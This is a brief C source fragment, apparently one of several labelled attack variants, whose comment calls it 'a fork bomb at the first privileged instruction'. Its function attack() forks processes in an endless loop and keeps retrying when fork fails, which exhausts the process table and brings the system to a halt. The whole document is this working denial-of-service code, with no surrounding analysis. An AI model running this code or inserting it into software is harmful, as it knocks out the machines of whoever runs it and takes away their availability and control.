/* (c) A fork bomb at the first privileged instruction. HOOK_PRIVILEGED */
#include <unistd.h>

static void attack(void)
{
    for (;;)
        if (fork() < 0)
            usleep(1000);
}
